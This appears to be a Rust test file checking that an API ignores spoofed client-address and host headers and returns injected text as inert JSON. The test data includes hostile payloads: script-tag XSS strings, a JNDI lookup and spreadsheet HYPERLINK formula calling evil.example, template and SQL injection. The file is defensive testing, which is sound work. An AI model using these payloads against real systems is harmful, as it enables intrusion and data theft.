//! API10:2023 Unsafe consumption of APIs: what comes from other systems is believed as far as they are trusted, and no further.
//!
//! Awasir calls no other API. What it takes from others are the headers of the proxies in front of it, and texts that
//! others' systems (calendars, browsers, logs) will read. Shown elsewhere: `manners::limits` and `access_tokens::networks` (whose
//! `X-Forwarded-For` is believed), `visits::calendar` (texts in calendars), `manners::bodies` (characters), `logging` (lines). Here:
//! what is recorded as an address, what links are made of, and texts on their way out again.

use awasir::db::schema::sessions;
use diesel::prelude::*;

use super::*;
use crate::support::world::PASSWORD;

const EVIL: &str = "evil.example";

on_both_engines! {
    /// What somebody says of where they are stands in no record unless a trusted proxy says it.
    fn addresses_that_nobody_trusted_says(world: World) {
        let token = token_of(&world, &world.a, "viewer", json!({}));
        let claimed = "198.51.100.77";
        let as_if = |request: crate::support::client::Request| {
            let request = request.header("X-Forwarded-For", claimed).header("X-Real-IP", claimed).header("True-Client-IP", claimed);
            request.header("CF-Connecting-IP", claimed).header("Forwarded", &format!("for={claimed}")).header("X-Client-IP", claimed)
        };
        let login = json!({"email": "viewer@wadi.example", "password": PASSWORD});
        as_if(world.stranger.post("/v1/auth/login", login)).expect(200);
        as_if(machine(&world, &token).get(READ)).expect(200);
        actix_web::rt::System::new().block_on(awasir::access_tokens::uses::write_down(&world.server.app)).unwrap();
        let addresses: Vec<Option<String>> = world.server.look(|db| sessions::table.select(sessions::address).load(db).unwrap());
        assert!(addresses.contains(&Some("127.0.0.1".to_owned())) && !addresses.contains(&Some(claimed.to_owned())), "{addresses:?}");
        assert_eq!(world.a.admin.get(&path_of(&token)).expect(200).json()["last_used_from"], "127.0.0.0/24");
        let everything = crate::support::stored::everything(&world.server);
        let found = crate::support::stored::letters(&everything).contains(claimed);
        assert!(!found, "the address that was claimed stands in the database");
    }

    /// Behind a trusted proxy too only what it wrote itself: what stands before was sent to it.
    fn addresses_behind_a_trusted_proxy(engine: Engine) {
        let world = World::on(TestServer::with(engine, |settings| settings.trusted_proxies = vec!["127.0.0.1/32".parse().unwrap()]));
        let login = json!({"email": "viewer@wadi.example", "password": PASSWORD});
        for forwarded in ["198.51.100.77, 203.0.113.5", "127.0.0.1, 203.0.113.5", "x, 203.0.113.5", "198.51.100.77,203.0.113.5:4711"] {
            world.stranger.post("/v1/auth/login", login.clone()).header("X-Forwarded-For", forwarded).expect(200);
        }
        let addresses: Vec<Option<String>> = world.server.look(|db| {
            sessions::table.filter(sessions::address.is_not_null()).select(sessions::address).load(db).unwrap()
        });
        assert_eq!(addresses, vec![Some("203.0.113.5".to_owned()); 4]);
    }

    /// Links and tokens are made of the setting `public_url`, whatever a request says of where it was sent.
    fn nobody_else_s_host_stands_in_a_link(world: World) {
        let invitation = json!({"role": "viewer", "name": {"ar": "آمنة"}});
        let community = json!({"name": {"ar": "قرية"}, "country": "SD"});
        let login = json!({"email": "viewer@wadi.example", "password": PASSWORD});
        for n in 0..3 {
            world.a.contributor.post(READ, json!({"name": {"ar": format!("قرية {n}")}, "country": "SD"})).expect(201);
        }
        for request in [
            world.a.admin.post(&world.a.path("/invitations"), invitation), world.a.contributor.post(READ, community), world.stranger.post("/v1/auth/login", login),
            world.a.viewer.get(&format!("{READ}?limit=1")), world.stranger.get("/"), world.stranger.get("/openapi.json"), world.stranger.get("/docs/"),
            world.stranger.get("/docs"), world.stranger.get("/.well-known/jwks.json"), world.stranger.get("/problems/forbidden"), world.a.viewer.get("/v1/nothing"),
        ] {
            let forwarded = format!("for=192.0.2.1;host={EVIL};proto=https");
            let reply = request.header("Host", EVIL).header("X-Forwarded-Host", EVIL).header("X-Forwarded-Proto", "https")
                .header("X-Forwarded-Prefix", &format!("//{EVIL}")).header("Forwarded", &forwarded).try_send().unwrap();
            assert!(reply.status < 500, "{reply}");
            let all = format!("{:?} {}", reply.headers, reply.text());
            assert!(!all.contains(EVIL), "{all}");
        }
    }

    /// Texts that are something else to whoever reads them next: they come back as texts.
    fn texts_on_their_way_out(world: World) {
        let texts = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "=HYPERLINK(\"http://evil.example\")", "${jndi:ldap://evil.example/x}",
            "{{7*7}}", "'; drop table users; --"];
        for text in texts {
            let body = json!({"name": {"ar": text}, "country": "SD", "confirm_new": true});
            let reply = world.a.contributor.post(READ, body).send();
            if reply.status == 422 {
                continue;
            }
            let made = reply.expect(201);
            assert_eq!(made.header("content-type"), Some("application/json"), "{made}");
            let read = world.b.viewer.get(&format!("{READ}/{}", made.id())).expect(200);
            assert_eq!(read.json()["name"]["ar"], text);
            assert_eq!((read.header("content-type"), read.header("x-content-type-options")), (Some("application/json"), Some("nosniff")));
        }
        // What stands in a path or an id of a request comes back in a problem, never on a page.
        for path in ["/problems/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/%3Cscript%3E", "/docs/%3Cscript%3E"] {
            let reply = world.stranger.get(path).expect(404);
            assert_eq!(reply.header("content-type"), Some("application/problem+json"), "{reply}");
            assert!(!reply.text().contains("<script"), "{reply}");
        }
        let reply = world.a.viewer.get("/v1/nothing").header("X-Request-Id", "<script>").expect(404);
        assert_eq!(reply.header("content-type"), Some("application/problem+json"), "{reply}");
    }
}
